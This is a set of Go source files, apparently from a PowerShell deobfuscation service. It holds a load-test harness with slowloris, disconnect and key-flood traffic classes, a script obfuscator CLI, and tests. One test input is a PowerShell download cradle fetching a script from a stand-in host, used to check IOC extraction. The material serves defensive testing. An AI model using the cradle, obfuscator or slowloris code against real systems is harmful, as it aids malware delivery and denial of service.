	return &trafficGen{
		opts:      opts,
		rng:       rng,
		dupScript: `IEX ("Wri{0}e-Ho{1}t 'dup traffic'" -f 't','s')`,
	}
}

// genRequest is one prepared request: a body plus delivery behavior.
type genRequest struct {
	class  string
	body   string
	apiKey string
	// fault selects a delivery mode: "", "disconnect" or "slowloris".
	fault string
}

const base64Alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

// blob builds n pseudo-random base64-alphabet bytes.
func (g *trafficGen) blob(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = base64Alphabet[g.rng.Intn(len(base64Alphabet))]
	}
	return string(b)
}

func (g *trafficGen) next(class string) genRequest {
	g.n++
	// Light, dup and heavy traffic models many ordinary tenants, each
	// under its own quota bucket — heavy scripts are expensive, not
	// high-volume, so cost-aware shedding (not the quota) must catch
	// them. The fault classes ride one hostile key, so per-key quotas
	// isolate the damage.
	r := genRequest{class: class, apiKey: g.opts.apiKey + "-hostile"}
	switch class {
	case "light", "dup", "heavy":
		r.apiKey = fmt.Sprintf("%s-t%d", g.opts.apiKey, g.rng.Intn(maxInt(1, g.opts.tenants)))
	}
	switch class {
	case "light":
		// Distinct per request so the parse cache cannot amortize it:
		// this measures real light-work latency, not cache hits.
		r.body = scriptJSON(fmt.Sprintf(
			`$m%d = "light %d"; IEX ("Wri{0}e-Ho{1}t $m%d" -f 't','s')`, g.n, g.n, g.n))
	case "dup":
		r.body = scriptJSON(g.dupScript)
	case "heavy":
		// A large high-entropy payload: big, blob-dense, expensive to
		// scan — exactly what costEstimate flags heavy. A distinct
		// prefix defeats cache amortization.
		r.body = scriptJSON(fmt.Sprintf(
			`$p%d = "%s"; Write-Host $p%d.Length`, g.n, g.blob(g.opts.heavyBytes), g.n))
	case "oversize":
		r.body = scriptJSON(`$x = "` + strings.Repeat("A", g.opts.oversizeBytes) + `"`)
	case "disconnect":
		r.body = scriptJSON(g.dupScript)
		r.fault = "disconnect"
	case "slowloris":
		r.body = scriptJSON(g.dupScript)
		r.fault = "slowloris"
	case "keyflood":
		// A fresh key every request: quota-bucket LRU churn.
		r.body = scriptJSON(`Write-Host 'keyflood'`)
		r.apiKey = fmt.Sprintf("flood-%d", g.n)
	case "quotabuster":
		// One hostile key hammering its own bucket.
		r.body = scriptJSON(`Write-Host 'buster'`)
		r.apiKey = "quota-buster"
	}
	return r
}

func scriptJSON(script string) string {
	b, _ := json.Marshal(map[string]string{"script": script})
	return string(b)
}

// fire delivers the request per its fault mode. Returns the HTTP
// status (0 on transport error), latency, and whether the outcome was
// a transport-level failure.
func (r genRequest) fire(client *http.Client, opts options) (int, time.Duration, bool) {
	url := opts.url + "/v1/deobfuscate"
	start := time.Now()
	switch r.fault {
	case "disconnect":
		// Send part of the body, then abort the connection mid-request.
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		pr, pw := io.Pipe()
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, pr)
		if err != nil {
			return 0, time.Since(start), true
		}
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("X-Api-Key", r.apiKey)
		go func() {
			pw.Write([]byte(r.body[:len(r.body)/2]))
			time.Sleep(20 * time.Millisecond)
			cancel() // abort mid-body
			pw.Close()
		}()
		resp, err := client.Do(req)
		if err != nil {
			// The expected outcome: the abort surfaced client-side.
			return 0, time.Since(start), true
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp.StatusCode, time.Since(start), false
	case "slowloris":
		req, err := http.NewRequest(http.MethodPost, url, &trickleReader{
			data: []byte(r.body), chunk: 3,
			interval: opts.slowTime / time.Duration(len(r.body)/3+1),
		})
		if err != nil {
			return 0, time.Since(start), true
		}
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("X-Api-Key", r.apiKey)
		resp, err := client.Do(req)
		if err != nil {
			return 0, time.Since(start), true
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp.StatusCode, time.Since(start), false
	default:
		req, err := http.NewRequest(http.MethodPost, url, bytes.NewReader([]byte(r.body)))
		if err != nil {
			return 0, time.Since(start), true
		}
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("X-Api-Key", r.apiKey)
		resp, err := client.Do(req)
		if err != nil {
			return 0, time.Since(start), true
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp.StatusCode, time.Since(start), false
	}
}

// trickleReader yields its data a few bytes at a time with a delay
// between reads — a polite slow-loris.
type trickleReader struct {
	data     []byte
	pos      int
	chunk    int
	interval time.Duration
	started  bool
}

func (t *trickleReader) Read(p []byte) (int, error) {
	if t.pos >= len(t.data) {
		return 0, io.EOF
	}
	if t.started {
		time.Sleep(t.interval)
	}
	t.started = true
	n := t.chunk
	if n > len(t.data)-t.pos {
		n = len(t.data) - t.pos
	}
	if n > len(p) {
		n = len(p)
	}
	copy(p, t.data[t.pos:t.pos+n])
	t.pos += n
	return n, nil
}

// statszSnapshot is the subset of GET /statsz the harness scrapes.
type statszSnapshot struct {
	Rejected     map[string]int64 `json:"rejected"`
	StatusCounts map[string]int64 `json:"status_counts"`
	Classes      map[string]int64 `json:"classes"`
	Quota        *struct {
		Allowed   int64 `json:"allowed"`
		Rejected  int64 `json:"rejected"`
		Evictions int64 `json:"evictions"`
		Buckets   int   `json:"buckets"`
	} `json:"quota"`
}

func scrapeStatsz(client *http.Client, baseURL string) (*statszSnapshot, error) {
	resp, err := client.Get(baseURL + "/statsz")
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("/statsz returned %d", resp.StatusCode)
	}
	var snap statszSnapshot
	if err := json.NewDecoder(resp.Body).Decode(&snap); err != nil {
		return nil, err
	}
	return &snap, nil
}

// deltaCounts subtracts before from after, key-wise.
func deltaCounts(before, after map[string]int64) map[string]int64 {
	out := map[string]int64{}
	for k, v := range after {
		if d := v - before[k]; d != 0 {
			out[k] = d
		}
	}
	return out
}

// percentile returns the p-th percentile (0..100) of sorted ms values.
func percentile(sorted []float64, p float64) float64 {
	if len(sorted) == 0 {
		return 0
	}
	idx := int(p / 100 * float64(len(sorted)))
	if idx >= len(sorted) {
		idx = len(sorted) - 1
	}
	return sorted[idx]
}

// classReport is one class's section of the report.
type classReport struct {
	Sent           int64            `json:"sent"`
	TransportErrs  int64            `json:"transport_errors"`
	Statuses       map[string]int64 `json:"statuses"`
	P50Ms          float64          `json:"p50_ms"`
	P99Ms          float64          `json:"p99_ms"`
	SuccessRate    float64          `json:"success_rate"`
	GoodputPerSec  float64          `json:"goodput_rps"`
	FiveXXFraction float64          `json:"fraction_5xx"`
}

// sloReport records the assertions and their outcomes.
type sloReport struct {
	Asserted       bool     `json:"asserted"`
	LightP99Ms     float64  `json:"light_p99_ms"`
	LightSuccess   float64  `json:"light_success_rate"`
	Light5xx       float64  `json:"light_fraction_5xx"`
	LightGoodput   float64  `json:"light_goodput_rps"`
	Failures       []string `json:"failures,omitempty"`
	AssertP99Ms    float64  `json:"assert_p99_ms,omitempty"`
	AssertSuccess  float64  `json:"assert_success,omitempty"`
	AssertMax5xx   float64  `json:"assert_max_5xx,omitempty"`
	HeavySheddedBy string   `json:"heavy_shed_observed_via,omitempty"`
}

// report is the full JSON output.
type report struct {
	Target         string                 `json:"target"`
	QPS            float64                `json:"qps"`
	DurationSec    float64                `json:"duration_s"`
	Seed           int64                  `json:"seed"`
	Mix            map[string]int         `json:"mix"`
	HarnessDropped int64                  `json:"harness_dropped"`
	Classes        map[string]classReport `json:"classes"`
	// ServerDelta is the /statsz movement attributable to this run.
	ServerDelta struct {
		Rejected     map[string]int64 `json:"rejected"`
		StatusCounts map[string]int64 `json:"status_counts"`
		Classes      map[string]int64 `json:"classes"`
		Quota        map[string]int64 `json:"quota,omitempty"`
	} `json:"server_delta"`
	SLO sloReport `json:"slo"`
}

// lightClasses are the classes whose traffic the SLO protects: cheap
// legitimate work, duplicated or not.
var lightClasses = []string{"light", "dup"}

func buildReport(opts options, rec *recorder, elapsed time.Duration, before, after *statszSnapshot) *report {
	rep := &report{
		Target: opts.url, QPS: opts.qps, DurationSec: elapsed.Seconds(),
		Seed: opts.seed, Mix: opts.mix, Classes: map[string]classReport{},
	}
	rec.mu.Lock()
	rep.HarnessDropped = rec.dropped
	var lightLat []float64
	var lightSent, lightOK, light5xx int64
	for _, name := range classOrder {
		cs := rec.classes[name]
		if cs.sent == 0 {
			continue
		}
		sort.Float64s(cs.latencies)
		cr := classReport{
			Sent: cs.sent, TransportErrs: cs.transport,
			Statuses: map[string]int64{},
			P50Ms:    percentile(cs.latencies, 50),
			P99Ms:    percentile(cs.latencies, 99),
		}
		var ok, n5xx int64
		for status, c := range cs.statuses {
			cr.Statuses[strconv.Itoa(status)] = c
			if status == http.StatusOK {
				ok += c
			}
			if status >= 500 {
				n5xx += c
			}
		}
		cr.SuccessRate = float64(ok) / float64(cs.sent)
		cr.GoodputPerSec = float64(ok) / elapsed.Seconds()
		cr.FiveXXFraction = float64(n5xx) / float64(cs.sent)
		rep.Classes[name] = cr
		for _, lc := range lightClasses {
			if name == lc {
				lightLat = append(lightLat, cs.latencies...)
				lightSent += cs.sent
				lightOK += ok
				light5xx += n5xx
			}
		}
	}
	rec.mu.Unlock()

	rep.ServerDelta.Rejected = deltaCounts(before.Rejected, after.Rejected)
	rep.ServerDelta.StatusCounts = deltaCounts(before.StatusCounts, after.StatusCounts)
	rep.ServerDelta.Classes = deltaCounts(before.Classes, after.Classes)
	if after.Quota != nil {
		q := map[string]int64{
			"allowed": after.Quota.Allowed, "rejected": after.Quota.Rejected,
			"evictions": after.Quota.Evictions, "buckets": int64(after.Quota.Buckets),
		}
		if before.Quota != nil {
			q["allowed"] -= before.Quota.Allowed
			q["rejected"] -= before.Quota.Rejected
			q["evictions"] -= before.Quota.Evictions
		}
		rep.ServerDelta.Quota = q
	}

	sort.Float64s(lightLat)
	slo := &rep.SLO
	slo.LightP99Ms = percentile(lightLat, 99)
	if lightSent > 0 {
		slo.LightSuccess = float64(lightOK) / float64(lightSent)
		slo.Light5xx = float64(light5xx) / float64(lightSent)
	}
	slo.LightGoodput = float64(lightOK) / elapsed.Seconds()

	if opts.assertLightP99 > 0 {
		slo.Asserted = true
		slo.AssertP99Ms = float64(opts.assertLightP99) / float64(time.Millisecond)
		if slo.LightP99Ms > slo.AssertP99Ms {
			slo.Failures = append(slo.Failures, fmt.Sprintf(
				"light p99 %.1fms exceeds SLO %.1fms", slo.LightP99Ms, slo.AssertP99Ms))
		}
	}
	if opts.assertLightSuccess > 0 {
		slo.Asserted = true
		slo.AssertSuccess = opts.assertLightSuccess
		if slo.LightSuccess < opts.assertLightSuccess {
			slo.Failures = append(slo.Failures, fmt.Sprintf(
				"light success rate %.3f below floor %.3f", slo.LightSuccess, opts.assertLightSuccess))
		}
	}
	if opts.assertMaxLight5xx >= 0 {
		slo.Asserted = true
		slo.AssertMax5xx = opts.assertMaxLight5xx
		if slo.Light5xx > opts.assertMaxLight5xx {
			slo.Failures = append(slo.Failures, fmt.Sprintf(
				"light 5xx fraction %.3f exceeds cap %.3f", slo.Light5xx, opts.assertMaxLight5xx))
		}
	}
	return rep
}

func printSummary(w io.Writer, rep *report) {
	fmt.Fprintf(w, "loadgen: %s for %.1fs at %.0f qps (harness dropped %d ticks)\n",
		rep.Target, rep.DurationSec, rep.QPS, rep.HarnessDropped)
	for _, name := range classOrder {
		cr, ok := rep.Classes[name]
		if !ok {
			continue
		}
		var statuses []string
		for _, code := range sortedKeys(cr.Statuses) {
			statuses = append(statuses, fmt.Sprintf("%s:%d", code, cr.Statuses[code]))
		}
		fmt.Fprintf(w, "loadgen: %-11s sent %4d  p50 %7.1fms  p99 %7.1fms  ok %.2f  goodput %6.1f/s  [%s]",
			name, cr.Sent, cr.P50Ms, cr.P99Ms, cr.SuccessRate, cr.GoodputPerSec, strings.Join(statuses, " "))
		if cr.TransportErrs > 0 {
			fmt.Fprintf(w, " transport-errs %d", cr.TransportErrs)
		}
		fmt.Fprintln(w)
	}
	fmt.Fprintf(w, "loadgen: light aggregate: p99 %.1fms  success %.3f  goodput %.1f/s  5xx %.3f\n",
		rep.SLO.LightP99Ms, rep.SLO.LightSuccess, rep.SLO.LightGoodput, rep.SLO.Light5xx)
	if len(rep.ServerDelta.Rejected) > 0 || len(rep.ServerDelta.Classes) > 0 {
		fmt.Fprintf(w, "loadgen: server delta: rejected %v classes %v statuses %v quota %v\n",
			rep.ServerDelta.Rejected, rep.ServerDelta.Classes, rep.ServerDelta.StatusCounts, rep.ServerDelta.Quota)
	}
}

func maxInt(a, b int) int {
	if a > b {
		return a
	}
	return b
}

func sortedKeys(m map[string]int64) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
