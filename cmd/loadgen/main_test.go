package main

import (
	"encoding/json"
	"io"
	"math/rand"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestParseMix(t *testing.T) {
	t.Run("default", func(t *testing.T) {
		mix, err := parseMix(defaultMix)
		if err != nil {
			t.Fatalf("default mix rejected: %v", err)
		}
		for _, c := range classOrder {
			if mix[c] <= 0 {
				t.Errorf("default mix missing class %q", c)
			}
		}
	})
	t.Run("subset and zero weights dropped", func(t *testing.T) {
		mix, err := parseMix("light=3, heavy=0,dup=1")
		if err != nil {
			t.Fatal(err)
		}
		if mix["light"] != 3 || mix["dup"] != 1 {
			t.Errorf("mix = %v", mix)
		}
		if _, ok := mix["heavy"]; ok {
			t.Error("zero-weight class kept")
		}
	})
	for _, bad := range []string{"", "light", "light=x", "light=-1", "bogus=1", "light=0"} {
		if _, err := parseMix(bad); err == nil {
			t.Errorf("parseMix(%q) accepted, want error", bad)
		}
	}
}

// TestPickClassDistribution: with a fixed seed the weighted picker
// must roughly track the weights (deterministic given the seed).
func TestPickClassDistribution(t *testing.T) {
	mix := map[string]int{"light": 70, "heavy": 20, "oversize": 10}
	rng := rand.New(rand.NewSource(42))
	counts := map[string]int{}
	const n = 10000
	for i := 0; i < n; i++ {
		counts[pickClass(rng, mix)]++
	}
	for name, w := range mix {
		want := float64(w) / 100
		got := float64(counts[name]) / n
		if got < want*0.8 || got > want*1.2 {
			t.Errorf("class %s frequency %.3f, want within 20%% of %.3f", name, got, want)
		}
	}
}

func TestPercentile(t *testing.T) {
	if got := percentile(nil, 99); got != 0 {
		t.Errorf("empty percentile = %v", got)
	}
	vals := make([]float64, 100)
	for i := range vals {
		vals[i] = float64(i + 1) // 1..100, sorted
	}
	if got := percentile(vals, 50); got != 51 {
		t.Errorf("p50 = %v, want 51", got)
	}
	if got := percentile(vals, 99); got != 100 {
		t.Errorf("p99 = %v, want 100", got)
	}
}

func TestDeltaCounts(t *testing.T) {
	before := map[string]int64{"200": 5, "429": 1}
	after := map[string]int64{"200": 9, "429": 1, "503": 2}
	got := deltaCounts(before, after)
	want := map[string]int64{"200": 4, "503": 2}
	if len(got) != len(want) || got["200"] != 4 || got["503"] != 2 {
		t.Errorf("delta = %v, want %v", got, want)
	}
}

func TestTrickleReader(t *testing.T) {
	tr := &trickleReader{data: []byte("hello world"), chunk: 3, interval: time.Millisecond}
	out, err := io.ReadAll(tr)
	if err != nil {
		t.Fatal(err)
	}
	if string(out) != "hello world" {
		t.Errorf("trickled body = %q", out)
	}
}

// TestTrafficGen pins the shape of each class's request.
func TestTrafficGen(t *testing.T) {
	opts := options{apiKey: "k", tenants: 8, heavyBytes: 1024, oversizeBytes: 4096}
	gen := newTrafficGen(opts, rand.New(rand.NewSource(7)))

	light1 := gen.next("light")
	light2 := gen.next("light")
	if light1.body == light2.body {
		t.Error("light scripts must be distinct per request")
	}
	if !strings.HasPrefix(light1.apiKey, "k-t") {
		t.Errorf("light key %q not drawn from the tenant pool", light1.apiKey)
	}
	lightKeys := map[string]bool{}
	for i := 0; i < 100; i++ {
		lightKeys[gen.next("light").apiKey] = true
	}
	if len(lightKeys) != opts.tenants {
		t.Errorf("light traffic used %d tenant keys, want %d", len(lightKeys), opts.tenants)
	}
	if got := gen.next("heavy").apiKey; !strings.HasPrefix(got, "k-t") {
		t.Errorf("heavy key %q not drawn from the tenant pool", got)
	}
	if got := gen.next("slowloris").apiKey; got != "k-hostile" {
		t.Errorf("slowloris key = %q, want the shared hostile tenant", got)
	}
	if gen.next("dup").body != gen.next("dup").body {
		t.Error("dup scripts must repeat")
	}
	heavy := gen.next("heavy")
	if len(heavy.body) < opts.heavyBytes {
		t.Errorf("heavy body %d bytes, want >= %d", len(heavy.body), opts.heavyBytes)
	}
	over := gen.next("oversize")
	if len(over.body) < opts.oversizeBytes {
		t.Errorf("oversize body %d bytes, want >= %d", len(over.body), opts.oversizeBytes)
	}
	if got := gen.next("disconnect"); got.fault != "disconnect" {
		t.Errorf("disconnect fault = %q", got.fault)
	}
	if got := gen.next("slowloris"); got.fault != "slowloris" {
		t.Errorf("slowloris fault = %q", got.fault)
	}
	k1, k2 := gen.next("keyflood"), gen.next("keyflood")
	if k1.apiKey == k2.apiKey || k1.apiKey == "k" {
		t.Errorf("keyflood keys not distinct: %q %q", k1.apiKey, k2.apiKey)
	}
	if got := gen.next("quotabuster").apiKey; got != "quota-buster" {
		t.Errorf("quotabuster key = %q", got)
	}
	// Every class's body must be valid request JSON.
	for _, c := range classOrder {
		r := gen.next(c)
		var body struct {
			Script string `json:"script"`
		}
		if err := json.Unmarshal([]byte(r.body), &body); err != nil || body.Script == "" {
			t.Errorf("class %s body not valid script JSON: %v", c, err)
		}
	}
}

// fakeTarget is a stub deobfuscation server: instant 200s for
// /v1/deobfuscate, plus a /statsz that counts what it served.
func fakeTarget(t *testing.T) *httptest.Server {
	t.Helper()
	var served int64
	mux := http.NewServeMux()
	mux.HandleFunc("/v1/deobfuscate", func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		served++
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"deobfuscated":"ok"}`))
	})
	mux.HandleFunc("/statsz", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{
			"rejected":      map[string]int64{},
			"status_counts": map[string]int64{"200": served},
			"classes":       map[string]int64{"light": served},
		})
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

// TestDriveAgainstStub runs the whole harness loop briefly against a
// stub server and checks the report adds up.
func TestDriveAgainstStub(t *testing.T) {
	srv := fakeTarget(t)
	opts := options{
		url: srv.URL, qps: 400, duration: 300 * time.Millisecond,
		workers: 16, mix: map[string]int{"light": 3, "dup": 1},
		seed: 1, apiKey: "t", timeout: 2 * time.Second,
		heavyBytes: 512, oversizeBytes: 1024, slowTime: 50 * time.Millisecond,
	}
	rep, err := drive(opts)
	if err != nil {
		t.Fatal(err)
	}
	var sent int64
	for _, name := range []string{"light", "dup"} {
		cr, ok := rep.Classes[name]
		if !ok {
			t.Fatalf("class %s missing from report", name)
		}
		sent += cr.Sent
		if cr.Statuses["200"] != cr.Sent {
			t.Errorf("class %s: %d sent but statuses %v", name, cr.Sent, cr.Statuses)
		}
		if cr.SuccessRate != 1 {
			t.Errorf("class %s success rate %v, want 1", name, cr.SuccessRate)
		}
	}
	if sent == 0 {
		t.Fatal("no requests dispatched")
	}
	if rep.SLO.LightSuccess != 1 {
		t.Errorf("light success = %v, want 1", rep.SLO.LightSuccess)
	}
	if rep.ServerDelta.StatusCounts["200"] != sent {
		t.Errorf("server delta 200s = %d, harness sent %d",
			rep.ServerDelta.StatusCounts["200"], sent)
	}
}

// TestRunAssertionsAndReport drives run() end to end: flag parsing,
// JSON report emission, and SLO assertion exit codes.
func TestRunAssertionsAndReport(t *testing.T) {
	srv := fakeTarget(t)
	out := filepath.Join(t.TempDir(), "report.json")
	var stdout, stderr strings.Builder
	code, err := run([]string{
		"-url", srv.URL, "-qps", "200", "-duration", "250ms",
		"-mix", "light=1", "-json", out,
		"-assert-light-success", "0.9", "-assert-light-p99", "1s",
		"-assert-max-light-5xx", "0",
	}, &stdout, &stderr)
	if err != nil || code != 0 {
		t.Fatalf("run = code %d err %v\nstdout: %s\nstderr: %s", code, err, stdout.String(), stderr.String())
	}
	if !strings.Contains(stdout.String(), "SLO PASS") {
		t.Errorf("stdout missing SLO PASS:\n%s", stdout.String())
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var rep report
	if err := json.Unmarshal(b, &rep); err != nil {
		t.Fatalf("report not valid JSON: %v", err)
	}
	if !rep.SLO.Asserted || len(rep.SLO.Failures) != 0 {
		t.Errorf("SLO section = %+v", rep.SLO)
	}

	// An unmeetable floor must fail with exit code 1.
	code, err = run([]string{
		"-url", srv.URL, "-qps", "100", "-duration", "150ms",
		"-mix", "light=1", "-assert-light-p99", "1ns",
	}, io.Discard, io.Discard)
	if err != nil || code != 1 {
		t.Fatalf("impossible SLO: code %d err %v, want code 1", code, err)
	}
}

func TestRunFlagErrors(t *testing.T) {
	if code, err := run(nil, io.Discard, io.Discard); code != 2 || err == nil {
		t.Errorf("missing -url: code %d err %v, want code 2", code, err)
	}
	if code, _ := run([]string{"-url", "http://x", "-mix", "bogus=1"}, io.Discard, io.Discard); code != 2 {
		t.Errorf("bad mix: code %d, want 2", code)
	}
}
