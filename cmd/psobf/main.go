// Command psobf obfuscates a PowerShell script with one or more
// techniques from the paper's Table II.
//
// Usage:
//
//	psobf -t concat,encode-base64 [-seed 42] [script.ps1]
//	psobf -profile heavy [-depth 2] [-seed 42] [script.ps1]
//	psobf -list
//	psobf -list-profiles
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"strings"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
)

func main() {
	if err := run(os.Args[1:], os.Stdin, os.Stdout, os.Stderr); err != nil {
		fmt.Fprintln(os.Stderr, "psobf:", err)
		os.Exit(1)
	}
}

func run(args []string, stdin io.Reader, stdout, stderr io.Writer) error {
	fs := flag.NewFlagSet("psobf", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		techs    = fs.String("t", "", "comma-separated techniques to apply in order")
		profile  = fs.String("profile", "", "draw the technique stack from a named profile instead of -t")
		depth    = fs.Int("depth", 1, "wrapper depth for -profile (clamped to the profile's own cap)")
		seed     = fs.Int64("seed", 1, "random seed (deterministic output)")
		list     = fs.Bool("list", false, "list available techniques and exit")
		listProf = fs.Bool("list-profiles", false, "list obfuscation profiles and exit")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *list {
		for _, t := range invokedeob.Techniques() {
			fmt.Fprintf(stdout, "L%d  %s\n", invokedeob.TechniqueLevel(t), t)
		}
		return nil
	}
	if *listProf {
		for _, p := range invokedeob.ObfuscationProfiles() {
			fmt.Fprintf(stdout, "%-10s depth<=%d  %s\n", p.Name, p.MaxDepth, p.Description)
		}
		return nil
	}
	if *techs == "" && *profile == "" {
		return fmt.Errorf("no techniques given; use -t, -profile, -list or -list-profiles")
	}
	if *techs != "" && *profile != "" {
		return fmt.Errorf("-t and -profile are mutually exclusive")
	}
	script, err := readInput(fs.Args(), stdin)
	if err != nil {
		return err
	}
	if *profile != "" {
		out, applied, err := invokedeob.ObfuscateProfile(script, *profile, *depth, *seed)
		if err != nil {
			return err
		}
		fmt.Fprintf(stderr, "note: applied %s\n", strings.Join(applied, ","))
		fmt.Fprintln(stdout, out)
		return nil
	}
	names := strings.Split(*techs, ",")
	out, applied, err := invokedeob.ObfuscateStack(script, names, *seed)
	if err != nil {
		return err
	}
	if len(applied) < len(names) {
		fmt.Fprintf(stderr, "note: applied %d of %d techniques (%s)\n",
			len(applied), len(names), strings.Join(applied, ","))
	}
	fmt.Fprintln(stdout, out)
	return nil
}

func readInput(args []string, stdin io.Reader) (string, error) {
	if len(args) > 1 {
		return "", fmt.Errorf("expected at most one script file, got %d", len(args))
	}
	if len(args) == 1 {
		b, err := os.ReadFile(args[0])
		if err != nil {
			return "", err
		}
		return string(b), nil
	}
	b, err := io.ReadAll(stdin)
	if err != nil {
		return "", err
	}
	return string(b), nil
}
