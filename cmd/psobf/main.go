// Command psobf obfuscates a PowerShell script with one or more
// techniques from the paper's Table II.
//
// Usage:
//
//	psobf -t concat,encode-base64 [-seed 42] [script.ps1]
//	psobf -list
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"strings"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
)

func main() {
	if err := run(os.Args[1:], os.Stdin, os.Stdout, os.Stderr); err != nil {
		fmt.Fprintln(os.Stderr, "psobf:", err)
		os.Exit(1)
	}
}

func run(args []string, stdin io.Reader, stdout, stderr io.Writer) error {
	fs := flag.NewFlagSet("psobf", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		techs = fs.String("t", "", "comma-separated techniques to apply in order")
		seed  = fs.Int64("seed", 1, "random seed (deterministic output)")
		list  = fs.Bool("list", false, "list available techniques and exit")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *list {
		for _, t := range invokedeob.Techniques() {
			fmt.Fprintf(stdout, "L%d  %s\n", invokedeob.TechniqueLevel(t), t)
		}
		return nil
	}
	if *techs == "" {
		return fmt.Errorf("no techniques given; use -t or -list")
	}
	script, err := readInput(fs.Args(), stdin)
	if err != nil {
		return err
	}
	names := strings.Split(*techs, ",")
	out, applied, err := invokedeob.ObfuscateStack(script, names, *seed)
	if err != nil {
		return err
	}
	if len(applied) < len(names) {
		fmt.Fprintf(stderr, "note: applied %d of %d techniques (%s)\n",
			len(applied), len(names), strings.Join(applied, ","))
	}
	fmt.Fprintln(stdout, out)
	return nil
}

func readInput(args []string, stdin io.Reader) (string, error) {
	if len(args) > 1 {
		return "", fmt.Errorf("expected at most one script file, got %d", len(args))
	}
	if len(args) == 1 {
		b, err := os.ReadFile(args[0])
		if err != nil {
			return "", err
		}
		return string(b), nil
	}
	b, err := io.ReadAll(stdin)
	if err != nil {
		return "", err
	}
	return string(b), nil
}
