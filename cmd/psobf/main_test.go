package main

import (
	"bytes"
	"strings"
	"testing"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
)

func TestList(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if err := run([]string{"-list"}, strings.NewReader(""), &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "encode-base64") {
		t.Errorf("list = %q", stdout.String())
	}
}

func TestObfuscateStack(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("write-host hello")
	if err := run([]string{"-t", "concat,encode-bxor", "-seed", "9"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	out := stdout.String()
	if strings.Contains(out, "write-host hello") {
		t.Errorf("output not obfuscated: %q", out)
	}
	// Deobfuscating the CLI output recovers the payload.
	res, err := invokedeob.Deobfuscate(out, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(strings.ToLower(res.Script), "write-host hello") {
		t.Errorf("roundtrip failed: %q", res.Script)
	}
}

func TestNoTechniques(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if err := run(nil, strings.NewReader("x"), &stdout, &stderr); err == nil {
		t.Error("expected error")
	}
}

func TestPartialApplication(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("write-host hello")
	if err := run([]string{"-t", "random-name,concat"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stderr.String(), "applied 1 of 2") {
		t.Errorf("note missing: %q", stderr.String())
	}
}
