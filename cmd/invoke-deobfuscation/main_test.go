package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestRunStdin(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("i`ex ('write-ho'+'st clitest')")
	if err := run([]string{"-stats"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "Write-Host clitest") {
		t.Errorf("stdout = %q", stdout.String())
	}
	if !strings.Contains(stderr.String(), "tokens=") {
		t.Errorf("stderr = %q", stderr.String())
	}
}

func TestRunFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "s.ps1")
	if err := os.WriteFile(path, []byte("IEX 'write-host fromfile'"), 0o644); err != nil {
		t.Fatal(err)
	}
	var stdout, stderr bytes.Buffer
	if err := run([]string{path}, strings.NewReader(""), &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "Write-Host fromfile") {
		t.Errorf("stdout = %q", stdout.String())
	}
}

func TestRunIOCs(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("$u = 'http'+'://cli.test/x.ps1'\n(New-Object Net.WebClient).DownloadString($u)")
	if err := run([]string{"-iocs"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stderr.String(), "http://cli.test/x.ps1") {
		t.Errorf("IOCs missing: %q", stderr.String())
	}
}

func TestRunLayers(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("IEX 'IEX ''write-host deep'''")
	if err := run([]string{"-layers"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "----- layer 1 -----") {
		t.Errorf("layers missing: %q", stdout.String())
	}
}

// TestRunPartialOutputOnEnvelopeViolation asserts that when the
// envelope is violated mid-run the CLI still prints the best recovered
// layer to stdout (the operator guidance: "accept the partial layer")
// while exiting non-zero with the taxonomy name.
func TestRunPartialOutputOnEnvelopeViolation(t *testing.T) {
	var stdout, stderr bytes.Buffer
